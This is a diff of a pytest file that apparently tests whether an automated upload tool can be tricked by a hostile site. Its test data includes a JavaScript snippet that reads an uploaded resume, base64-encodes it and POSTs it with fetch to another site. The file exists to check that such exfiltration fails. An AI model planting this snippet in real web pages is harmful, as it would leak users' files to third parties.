@@ -30,6 +30,10 @@ WAYS = {
     "base64": "const bytes = String.fromCharCode(...new Uint8Array(await file.arrayBuffer()));"
     "return fetch(TO, { method: 'POST', body: JSON.stringify({ cv: btoa(bytes) }) })",
 }
+OTHERS = (
+    "form data",
+    *(pytest.param(way, marks=pytest.mark.soak) for way in WAYS if way != "form data"),
+)
 AT_ONCE = """<label>Resume <input type=file id=cv required></label><p id=state></p>
 <input type=hidden name=token><script>
 cv.onchange = async () => {
@@ -70,7 +74,9 @@ def end(receipt: Receipt) -> str:
     return grade_name(receipt.verdict, receipt.reason) if receipt.verdict else ""
 
 
-@pytest.mark.parametrize("way", ["form data", "raw", "xhr"])
+@pytest.mark.parametrize(
+    "way", ["form data", *(pytest.param(way, marks=pytest.mark.soak) for way in ("raw", "xhr"))]
+)
 async def test_it_is_asked_once_and_then_the_file_arrives_with_the_form(
     site: Hostile, tmp_path: Path, way: str
 ) -> None:
@@ -92,7 +98,7 @@ async def test_a_dry_run_ends_there(site: Hostile, tmp_path: Path) -> None:
     assert (site.uploaded, site.posted) == ([], [])
 
 
-@pytest.mark.parametrize("way", WAYS)
+@pytest.mark.parametrize("way", OTHERS)
 async def test_to_another_site_no_file_goes_whoever_agrees(
     site: Hostile, tmp_path: Path, way: str
 ) -> None:
